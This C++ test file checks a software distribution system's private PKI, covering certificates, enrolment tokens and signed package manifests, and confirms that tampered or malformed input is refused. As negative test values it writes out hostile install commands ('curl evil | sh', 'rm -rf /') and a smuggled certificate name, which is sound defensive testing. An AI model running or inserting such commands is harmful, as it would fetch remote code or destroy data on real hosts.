// The private PKI (security/pki.h): a CA, host requests and certificates binding a host id and a
// role, server certificates, verification, and refusal of what is malformed or tampered with.
#include "security/authority.h"
#include "security/enrolment.h"
#include "security/pki.h"
#include "security/publishers.h"

#include "harness.h"

#include <distrib/error.h>

#include <boost/json.hpp>
#include <catch2/catch.hpp>

#include <ctime>
#include <filesystem>

using namespace distrib;
using namespace distrib::pki;

namespace {
const Identity kAgent{"3b2a77bf-1c2d-4e5f-8a9b-0c1d2e3f4a5b", "agent"};
const Identity kRelay{"9f8e7d6c-5b4a-4c3d-8e2f-1a0b9c8d7e6f", "relay"};

std::int64_t now() {
  return static_cast<std::int64_t>(std::time(nullptr));
}
}  // namespace

TEST_CASE("a CA issues host certificates that bind the requested identity", "[pki]") {
  const auto ca = create_authority("distrib test CA", 3650);
  const auto ca_info = inspect_certificate(ca.cert_pem);
  CHECK(ca_info.is_ca);
  CHECK(ca_info.subject == "distrib test CA");
  CHECK(ca_info.not_after > now() + 3649LL * 86400);
  CHECK(verify(ca.cert_pem, ca.cert_pem, now()).empty());

  const auto key = generate_key();
  const auto csr = make_request(key, kAgent);
  const auto req = inspect_request(csr);
  CHECK(req.identity.host_id == kAgent.host_id);
  CHECK(req.identity.role == "agent");
  CHECK(req.fingerprint == key_fingerprint(public_key_of(key)));
  CHECK(req.fingerprint.starts_with("sha256:"));
  CHECK(req.fingerprint.size() == 7 + 64);

  const auto cert = issue_host(ca, csr, 30 * 86400, 42);
  const auto info = inspect_certificate(cert);
  REQUIRE(info.identities.size() == 1);
  CHECK(info.identities[0].host_id == kAgent.host_id);
  CHECK(info.identities[0].role == "agent");
  CHECK(info.subject == kAgent.host_id);
  CHECK(info.serial == 42);
  CHECK_FALSE(info.is_ca);
  CHECK(info.not_before <= now());
  CHECK(info.not_after > now() + 29LL * 86400);
  CHECK(verify(ca.cert_pem, cert, now()).empty());

  // Expired, or from another CA: refused, with the reason.
  CHECK(verify(ca.cert_pem, cert, now() + 31LL * 86400).find("expired") != std::string::npos);
  const auto other = create_authority("another CA", 10);
  CHECK_FALSE(verify(other.cert_pem, cert, now()).empty());
  // A host certificate cannot sign others: it is no CA.
  CHECK_FALSE(verify(cert, cert, now()).empty());
}

TEST_CASE("server certificates carry names and addresses", "[pki]") {
  const auto ca = create_authority("distrib test CA", 365);
  const auto key = generate_key();
  const auto cert = issue_server(ca, key, {"manager.example", "localhost"}, {"127.0.0.1", "::1"}, 365, 7);
  const auto info = inspect_certificate(cert);
  CHECK(info.names == std::vector<std::string>{"manager.example", "localhost"});
  CHECK(info.addresses == std::vector<std::string>{"127.0.0.1", "0:0:0:0:0:0:0:1"});
  CHECK(info.identities.empty());
  CHECK(verify(ca.cert_pem, cert, now()).empty());
  CHECK_THROWS_AS(issue_server(ca, key, {}, {}, 365, 8), Error);
  CHECK_THROWS_AS(issue_server(ca, key, {"bad name,DNS:evil"}, {}, 365, 8), Error);
}

TEST_CASE("malformed, tampered or foreign input is refused", "[pki]") {
  const auto key = generate_key();
  CHECK_THROWS_AS(make_request(key, {"not-a-uuid", "agent"}), Error);
  CHECK_THROWS_AS(make_request(key, {kAgent.host_id, "manager"}), Error);
  CHECK_THROWS_AS(make_request("garbage", kAgent), Error);
  CHECK_THROWS_AS(inspect_request(""), Error);
  CHECK_THROWS_AS(inspect_request(std::string(70000, 'A')), Error);
  CHECK_THROWS_AS(inspect_certificate("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"),
                  Error);

  // One changed byte in the signed part: the signature no longer verifies (or it no longer
  // parses); either way it is refused as invalid input.
  auto csr = make_request(key, kRelay);
  const auto at = csr.find('\n') + 40;
  csr[at] = csr[at] == 'A' ? 'B' : 'A';
  try {
    inspect_request(csr);
    FAIL("a tampered request was accepted");
  } catch (const Error& e) {
    CHECK(e.kind() == ErrorKind::invalid_argument);
  }
  const auto good = inspect_request(make_request(key, kRelay));
  CHECK(good.identity.role == "relay");
}

TEST_CASE("the manager's CA and server certificate are made once, kept, and re-issued when names change",
          "[pki]") {
  test::TempDir tmp;
  const auto dir = tmp / "pki";
  const auto first = security::ensure_manager_tls(dir, {"manager.example"}, {"127.0.0.1"});
  const auto ca = test::read_file(first.ca_cert);
  const auto cert = test::read_file(first.server_cert);
  CHECK(verify(ca, cert, now()).empty());
  CHECK((std::filesystem::status(first.ca_key).permissions() & std::filesystem::perms::others_read) ==
        std::filesystem::perms::none);
  CHECK((std::filesystem::status(first.server_key).permissions() & std::filesystem::perms::group_read) ==
        std::filesystem::perms::none);
  // The certificates are public (a monitor running as another user reads ca.crt).
  CHECK((std::filesystem::status(first.ca_cert).permissions() & std::filesystem::perms::others_read) !=
        std::filesystem::perms::none);

  // Again with the same names: nothing changes.
  security::ensure_manager_tls(dir, {"manager.example"}, {"127.0.0.1"});
  CHECK(test::read_file(first.ca_cert) == ca);
  CHECK(test::read_file(first.server_cert) == cert);

  // Another address: the same CA issues a new server certificate covering it.
  security::ensure_manager_tls(dir, {"manager.example"}, {"127.0.0.1", "127.0.0.2"});
  CHECK(test::read_file(first.ca_cert) == ca);
  const auto again = test::read_file(first.server_cert);
  CHECK(again != cert);
  const auto info = inspect_certificate(again);
  CHECK(info.addresses == std::vector<std::string>{"127.0.0.1", "127.0.0.2"});
  CHECK(verify(ca, again, now()).empty());

  std::vector<std::string> names, addresses;
  security::split_names({"a.example", "10.0.0.1", "::1", "a.example", ""}, names, addresses);
  CHECK(names == std::vector<std::string>{"a.example"});
  CHECK(addresses == std::vector<std::string>{"10.0.0.1", "::1"});
}

TEST_CASE("enrolment tokens keep only a hash; bundles and CA fingerprints are checked", "[pki]") {
  const auto t = security::make_enrol_token();
  CHECK(t.text.starts_with("distrib-enrol-" + t.id + "-"));
  CHECK(t.text.find(t.secret_hash) == std::string::npos);
  const auto parts = security::parse_enrol_token(t.text);
  CHECK(parts.id == t.id);
  CHECK(parts.secret_hash == t.secret_hash);
  CHECK(security::make_enrol_token().secret_hash != t.secret_hash);
  for (const std::string& bad :
       std::vector<std::string>{"", "distrib-enrol-", t.text + "0", t.text.substr(0, t.text.size() - 1) + "g",
                                "other-prefix-" + t.text.substr(14)})
    CHECK_THROWS_AS(security::parse_enrol_token(bad), Error);

  const auto ca = create_authority("bundle CA", 10);
  security::EnrolBundle b{{"https://manager.example:8640", "https://127.0.0.1:8641"}, ca.cert_pem, t.text};
  const auto back = security::read_bundle(security::write_bundle(b));
  CHECK(back.servers == b.servers);
  CHECK(back.ca_certificate == ca.cert_pem);
  CHECK(back.token == t.text);
  CHECK_THROWS_WITH(security::read_bundle("{\"servers\":[\"http://plain\"],\"ca_certificate\":\"x\"}"),
                    Catch::Contains("https://"));
  CHECK_THROWS_WITH(security::read_bundle("[]"), Catch::Contains("not a JSON object"));
  b.token = "guess";
  CHECK_THROWS_AS(security::read_bundle(security::write_bundle(b)), Error);
  // A host certificate is no CA: a bundle carrying one is refused.
  const auto host_cert = issue_host(ca, make_request(generate_key(), kAgent), 2 * 86400, 9);
  b = {{"https://m:1"}, host_cert, ""};
  CHECK_THROWS_WITH(security::read_bundle(security::write_bundle(b)),
                    Catch::Contains("not a CA certificate"));

  const auto fp = inspect_certificate(ca.cert_pem).fingerprint;
  CHECK_NOTHROW(security::check_ca_fingerprint(ca.cert_pem, fp));
  std::string upper_with_colons = "SHA256:";
  for (std::size_t i = 7; i < fp.size(); i += 2)
    upper_with_colons += (i > 7 ? ":" : "") + std::string(1, static_cast<char>(std::toupper(fp[i]))) +
                         static_cast<char>(std::toupper(fp[i + 1]));
  CHECK_NOTHROW(security::check_ca_fingerprint(ca.cert_pem, upper_with_colons));
  const auto other = create_authority("other", 10);
  try {
    security::check_ca_fingerprint(other.cert_pem, fp);
    FAIL("a CA with another fingerprint was trusted");
  } catch (const Error& e) {
    CHECK(e.kind() == ErrorKind::forbidden);
  }
  CHECK_THROWS_AS(security::check_ca_fingerprint(ca.cert_pem, "sha256:1234"), Error);
}

namespace {
Manifest sample_manifest() {
  Manifest m;
  m.name = "app";
  m.version = "1.0";
  m.payload_digest = std::string(64, 'a');
  m.payload_size = 10;
  m.files.push_back({"install.sh", 10, std::string(64, 'b'), 0755, "file", ""});
  m.chunks.push_back({std::string(64, 'a'), 10});
  m.install.command = "./install.sh";
  m.created_at = 1700000000;
  return m;
}
}  // namespace

TEST_CASE("publisher keys sign whole manifests; any change breaks the signature", "[pki][publishers]") {
  const auto key = security::make_publisher_key();
  const auto id = security::publisher_key_id(key.public_pem);
  CHECK(id.starts_with("ed25519:"));
  CHECK(id.size() == 8 + 16);
  CHECK(security::publisher_public_key(key.private_pem) == key.public_pem);

  auto m = sample_manifest();
  const auto unsigned_text = manifest_to_json(m);
  CHECK(unsigned_text.find("signature") == std::string::npos);  // unsigned manifests keep their digest
  security::sign_manifest(m, key.private_pem);
  CHECK(m.signed_by == id);
  CHECK(m.signature.size() == 128);
  CHECK(security::manifest_signature_valid(m, key.public_pem));
  // The signature travels with the manifest's JSON and survives a round trip.
  const auto back = manifest_from_json(manifest_to_json(m));
  CHECK(security::manifest_signature_valid(back, key.public_pem));

  const std::vector<security::PublisherKey> trusted{{id, "release", key.public_pem, 0}};
  CHECK_NOTHROW(security::check_publisher(m, trusted, {}, true));

  auto altered = [&](auto change) {
    auto x = m;
    change(x);
    return security::manifest_signature_valid(x, key.public_pem);
  };
  CHECK_FALSE(altered([](Manifest& x) { x.install.command = "curl evil | sh"; }));
  CHECK_FALSE(altered([](Manifest& x) { x.install.directory = "/etc"; }));
  CHECK_FALSE(altered([](Manifest& x) { x.install.timeout_seconds = 1; }));
  CHECK_FALSE(altered([](Manifest& x) { x.payload_digest = std::string(64, 'c'); }));
  CHECK_FALSE(altered([](Manifest& x) { x.files[0].mode = 04755; }));
  CHECK_FALSE(altered([](Manifest& x) {
    x.files.push_back({"evil", 1, std::string(64, 'd'), 0755, "file", ""});
  }));
  CHECK_FALSE(altered([](Manifest& x) { x.version = "1.1"; }));
  CHECK_FALSE(altered([](Manifest& x) { x.signature[0] = x.signature[0] == '0' ? '1' : '0'; }));
  CHECK_FALSE(altered([](Manifest& x) { x.signature = "zz"; }));
  CHECK_FALSE(security::manifest_signature_valid(m, security::make_publisher_key().public_pem));

  // Not a key, or not Ed25519: refused with a clear error.
  CHECK_THROWS_WITH(security::publisher_key_id("not a key"), Catch::Contains("not an Ed25519 public key"));
  CHECK_THROWS_WITH(security::publisher_key_id(public_key_of(generate_key())),
                    Catch::Contains("not an Ed25519 public key"));
  CHECK_THROWS_WITH(security::publisher_key_id(std::string(2000, 'A')), Catch::Contains("at most 1 KiB"));
}

TEST_CASE("agents run only what a trusted, unrevoked publisher signed", "[pki][publishers]") {
  const auto key = security::make_publisher_key(), other = security::make_publisher_key();
  const auto id = security::publisher_key_id(key.public_pem);
  const std::vector<security::PublisherKey> trusted{{id, "release", key.public_pem, 0}};
  auto signed_m = sample_manifest();
  security::sign_manifest(signed_m, key.private_pem);
  auto foreign = sample_manifest();
  security::sign_manifest(foreign, other.private_pem);
  const auto plain = sample_manifest();

  // Nothing trusted and not required: unsigned packages run (the state before any key).
  CHECK_NOTHROW(security::check_publisher(plain, {}, {}, false));
  // Required from the start, or once a key is trusted: unsigned packages are refused.
  CHECK_THROWS_WITH(security::check_publisher(plain, {}, {}, true), Catch::Contains("is not signed"));
  CHECK_THROWS_WITH(security::check_publisher(plain, trusted, {}, false), Catch::Contains("is not signed"));
  CHECK_THROWS_WITH(security::check_publisher(foreign, trusted, {}, false),
                    Catch::Contains("does not trust"));
  CHECK_THROWS_WITH(security::check_publisher(signed_m, trusted, {id}, false), Catch::Contains("revoked"));
  auto tampered = signed_m;
  tampered.install.command = "rm -rf /";
  CHECK_THROWS_WITH(security::check_publisher(tampered, trusted, {}, false),
                    Catch::Contains("does not verify"));
  try {
    security::check_publisher(tampered, trusted, {}, false);
  } catch (const Error& e) {
    CHECK(e.kind() == ErrorKind::integrity);
  }
}

TEST_CASE("the trusted publisher set is signed by the order signer and cannot be forged",
          "[pki][publishers]") {
  const auto ca = create_authority("distrib test CA", 30);
  const auto signer_pem = generate_key();
  const auto signer_cert = issue_signer(ca, signer_pem, 30, 2);
  const SigningKey signer(signer_pem);
  const auto key = security::make_publisher_key();
  security::PublisherSet set;
  set.version = 3;
  set.keys.push_back({security::publisher_key_id(key.public_pem), "release", key.public_pem, 1700000000});
  set.revoked.push_back("ed25519:0011223344556677");

  const auto text = security::sign_publishers(set, signer, signer_cert);
  const auto back = security::verify_publishers(text, ca.cert_pem, now());
  CHECK(back.version == 3);
  REQUIRE(back.keys.size() == 1);
  CHECK(back.keys[0].public_pem == key.public_pem);
  CHECK(back.revoked == set.revoked);

  // A key added on the way: the statement no longer matches its signature.
  auto forged = boost::json::parse(text).as_object();
  auto statement = std::string(forged["statement"].as_string());
  statement.replace(statement.find("\"version\":3"), 11, "\"version\":9");
  forged["statement"] = statement;
  CHECK_THROWS_WITH(security::verify_publishers(boost::json::serialize(forged), ca.cert_pem, now()),
                    Catch::Contains("signature does not verify"));
  // Signed by another CA's signer, or by a host certificate of the right CA: refused.
  const auto other_ca = create_authority("other CA", 30);
  const auto other_signer = issue_signer(other_ca, signer_pem, 30, 3);
  CHECK_THROWS_WITH(
      security::verify_publishers(security::sign_publishers(set, signer, other_signer), ca.cert_pem, now()),
      Catch::Contains("does not chain"));
  const auto host_key = generate_key();
  const auto host_cert = issue_host(ca, make_request(host_key, kRelay), 86400, 9);
  CHECK_THROWS_WITH(security::verify_publishers(
                        security::sign_publishers(set, SigningKey(host_key), host_cert), ca.cert_pem, now()),
                    Catch::Contains("not signed by the manager's order signer"));
  CHECK_THROWS_WITH(security::verify_publishers("{}", ca.cert_pem, now()), Catch::Contains("malformed"));
  CHECK_THROWS_WITH(security::verify_publishers(std::string(2 << 20, ' '), ca.cert_pem, now()),
                    Catch::Contains("too large"));

  // A key whose id does not match its public key, or a name out of bounds, is refused.
  auto bad = set;
  bad.keys[0].id = "ed25519:ffffffffffffffff";
  CHECK_THROWS_WITH(security::publisher_set_from_json(security::publisher_set_to_json(bad)),
                    Catch::Contains("does not match its id"));
  bad = set;
  bad.keys[0].name = "a b";
  CHECK_THROWS(security::publisher_set_from_json(security::publisher_set_to_json(bad)));
}
